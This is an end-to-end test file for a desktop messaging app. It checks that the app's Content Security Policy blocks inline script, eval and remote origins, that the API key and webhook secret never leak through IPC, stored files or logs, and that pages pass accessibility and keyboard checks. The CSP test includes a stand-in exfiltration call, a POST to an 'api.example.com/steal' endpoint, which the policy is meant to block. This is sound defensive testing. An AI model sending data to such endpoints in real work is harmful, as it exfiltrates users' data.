// Security and accessibility in the real window, against the simulator:
//   - the CSP blocks inline script, eval and every remote origin (the browser reports each);
//   - no IPC answer carries the API key or the webhook's shared secret, whatever page is open,
//     and neither is in the data dir (database, preferences) or the app's debug log;
//   - axe-core finds no serious or critical accessibility violation on any page, in the light
//     and the dark theme.
import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import { createRequire } from "node:module";
import { after, before, test } from "node:test";
import { addSimNumber, By, cliWith, filesContaining, launch, startSim, until, waitReady } from "./harness.mjs";

const require = createRequire(import.meta.url);
const AXE = readFileSync(require.resolve("axe-core/axe.min.js"), "utf8");
const SECTIONS = ["numbers", "webhook", "templates", "send", "history", "insights", "inbox", "setup", "audit", "partner", "settings"];

let app;
let sim;

before(async () => {
  sim = await startSim();
  app = await launch((env) => {
    addSimNumber(env, sim);
    // A shared-secret header on the webhook: a second secret to look for.
    const set = cliWith(env, ["webhook", "set", "Shop", "https://hooks.example.com/wabadesk", "--secret"]);
    if (!set.url) throw new Error(`webhook set: ${JSON.stringify(set)}`);
  });
  await waitReady(app.driver);
});
after(async () => {
  await app?.quit();
  sim?.stop();
});

async function open(section) {
  await app.driver.findElement(By.css(`a[data-section='${section}']`)).click();
  await app.driver.wait(
    until.elementLocated(By.css(`a[data-section='${section}'][aria-current='page']`)),
    5000,
  );
  // Let the page load its data (each page shows a heading once rendered).
  await app.driver.sleep(600);
}

test("the CSP blocks inline script, eval and remote origins", async () => {
  await app.step("csp", async () => {
    const r = await app.driver.executeAsyncScript(`
      const done = arguments[arguments.length - 1];
      const violations = [];
      document.addEventListener("securitypolicyviolation", (e) =>
        violations.push({ directive: e.effectiveDirective || e.violatedDirective, blocked: e.blockedURI }));
      window.__inlineRan = false;
      const inline = document.createElement("script");
      inline.textContent = "window.__inlineRan = true";
      document.head.appendChild(inline);
      let evalBlocked = false;
      try { (0, eval)("1 + 1"); } catch { evalBlocked = true; }
      const remote = document.createElement("script");
      remote.src = "https://cdn.example.com/x.js";
      document.head.appendChild(remote);
      const img = new Image();
      img.src = "https://tracker.example.com/p.png";
      fetch("https://api.example.com/steal", { method: "POST", body: "x" }).catch(() => {});
      setTimeout(() => done({ inlineRan: window.__inlineRan, evalBlocked, violations }), 800);
    `);
    assert.equal(r.inlineRan, false, "inline script ran");
    assert.equal(r.evalBlocked, true, "eval was allowed");
    const blocked = (d, host) => r.violations.some((v) => v.directive.startsWith(d) && (host === null || v.blocked.includes(host)));
    assert.ok(blocked("script-src", null), `no script-src violation for the inline script: ${JSON.stringify(r.violations)}`);
    assert.ok(blocked("script-src", "cdn.example.com"), JSON.stringify(r.violations));
    assert.ok(blocked("img-src", "tracker.example.com"), JSON.stringify(r.violations));
    assert.ok(blocked("connect-src", "api.example.com"), JSON.stringify(r.violations));
  });
});

test("no IPC answer, stored file or log line carries the API key or the webhook secret", async () => {
  await app.step("ipc-secrets", async () => {
    const { driver } = app;
    // Record every IPC answer (the IPC goes through fetch on the ipc: protocol).
    await driver.executeScript(`
      window.__ipcAnswers = [];
      const original = window.fetch;
      window.fetch = async (input, init) => {
        const response = await original(input, init);
        const url = String(input && input.url ? input.url : input);
        if (url.startsWith("ipc:") || url.startsWith("http://ipc.localhost")) {
          window.__ipcAnswers.push(url.replace(/^.*\\//, "") + " " + (await response.clone().text()));
        }
        return response;
      };
    `);
    for (const section of SECTIONS) await open(section);
    await open("numbers");
    await driver.findElement(By.css("tr[data-phone] td")).click();
    await driver.wait(until.elementLocated(By.id("number-drawer")), 5000);
    await driver.sleep(800);

    const answers = await driver.executeScript("return window.__ipcAnswers");
    assert.ok(answers.length >= 10, `too few IPC answers recorded (${answers.length}): is the IPC still on fetch?`);
    const key = sim.numbers[0].key;
    const state = await (await fetch(`${sim.url}/_sim/state`)).json();
    const secret = JSON.stringify(state).match(/"X-Wabadesk-Secret":"([0-9a-f]{48})"/i)?.[1];
    assert.ok(secret, "the simulator holds the webhook's shared secret");
    const secrets = [key, secret];
    for (const secret of secrets) {
      const leaks = answers.filter((a) => a.includes(secret));
      assert.deepEqual(leaks, [], `an IPC answer carries a secret (${secret.slice(0, 4)}…)`);
    }
    assert.ok(answers.some((a) => a.includes("••••")), "the key's mask is what the UI gets");
    // Nor the data dir (database, preferences file) or the app's debug log.
    for (const secret of secrets) {
      assert.deepEqual(filesContaining(app.dataDir, secret), [], "a secret is stored in the data dir");
      assert.equal(readFileSync(app.logFile, "utf8").includes(secret), false, "a secret is in the app's log");
    }
  });
});

async function axe(driver) {
  // Loaded as a WebDriver script: the CSP, rightly, refuses it as an inline script or eval.
  if (!(await driver.executeScript("return !!window.axe"))) await driver.executeScript(AXE);
  return driver.executeAsyncScript(`
    const done = arguments[arguments.length - 1];
    window.axe.run(document).then(
      (r) => done({ passed: r.passes.length, violations: r.violations.map((v) => ({ id: v.id, impact: v.impact, help: v.help,
        nodes: v.nodes.slice(0, 5).map((n) => n.target.join(" ") + " — " + n.failureSummary) })) }),
      (e) => done({ passed: 0, violations: [{ id: "axe-error", impact: "critical", help: String(e), nodes: [] }] }),
    );
  `);
}

test("no serious accessibility violation on any page, light and dark", async () => {
  await app.step("axe", async () => {
    const { driver } = app;
    const found = [];
    const backgrounds = new Set();
    for (const theme of ["light", "dark"]) {
      await driver.executeScript(`document.documentElement.dataset.theme = arguments[0]`, theme);
      backgrounds.add(await driver.executeScript(`return getComputedStyle(document.documentElement).backgroundColor`));
      for (const section of SECTIONS) {
        await open(section);
        const r = await axe(driver);
        assert.ok(r.passed >= 10, `axe checked little on ${section} (${r.passed} rules passed)`);
        for (const v of r.violations) {
          if (v.impact === "serious" || v.impact === "critical") found.push({ theme, section, ...v });
        }
      }
      // The two richest views: a number's drawer and the template builder with its preview.
      const views = [
        ["numbers", "tr[data-phone] button.link", "number-drawer"],
        ["templates", "#templates-new", "builder"],
      ];
      for (const [section, opener, name] of views) {
        await open(section);
        await driver.wait(until.elementLocated(By.css(opener)), 5000);
        await driver.findElement(By.css(opener)).click();
        await driver.sleep(600);
        const r = await axe(driver);
        for (const v of r.violations) {
          if (v.impact === "serious" || v.impact === "critical") found.push({ theme, section: name, ...v });
        }
      }
    }
    assert.equal(backgrounds.size, 2, "the dark theme did not apply");
    assert.deepEqual(found, [], JSON.stringify(found, null, 2));
  });
});

test("every page can be used from the keyboard, with a visible focus", async () => {
  await app.step("keyboard", async () => {
    const { driver } = app;
    await driver.executeScript(`delete document.documentElement.dataset.theme`);
    const problems = [];
    for (const section of SECTIONS) {
      await open(section);
      // Tab from the page's start through every control, noting what gets focus and its outline.
      const r = await driver.executeScript(`
        const main = document.querySelector(".shell > :not(nav):not(.skip-link)");
        const controls = [...main.querySelectorAll("a[href], button, input, select, textarea, [tabindex]")]
          .filter((el) => !el.disabled && el.tabIndex >= 0 && el.getClientRects().length > 0
            && !el.closest("details:not([open]) > :not(summary)")
            && (!el.checkVisibility || el.checkVisibility({ visibilityProperty: true })));
        return controls.map((el) => el.id || el.getAttribute("aria-label") || el.textContent.trim().slice(0, 30) || el.tagName);
      `);
      await driver.executeScript(`document.querySelector("a[data-section='${section}']").focus()`);
      const reached = new Set();
      let inMain = false;
      for (let i = 0; i < r.length * 4 + 20; i++) {
        await driver.actions().sendKeys("\uE004").perform(); // Tab
        const f = await driver.executeScript(`
          const el = document.activeElement;
          if (!el || el === document.body) return null;
          const s = getComputedStyle(el);
          const visible = (s.outlineStyle !== "none" && parseFloat(s.outlineWidth) > 0) || s.boxShadow !== "none";
          return { name: el.id || el.getAttribute("aria-label") || el.textContent.trim().slice(0, 30) || el.tagName,
                   visible, inNav: !!el.closest("nav") };
        `);
        if (!f) continue;
        if (f.inNav) {
          if (inMain) break; // came round to the sidebar again: the page is done
          continue;
        }
        inMain = true;
        reached.add(f.name);
        if (!f.visible) problems.push(`${section}: ${f.name} has no visible focus`);
      }
      if (r.length === 0) problems.push(`${section}: no control found on the page`);
      for (const name of r) if (!reached.has(name)) problems.push(`${section}: ${name} is not reached with Tab`);
    }
    assert.deepEqual(problems, []);
  });
});
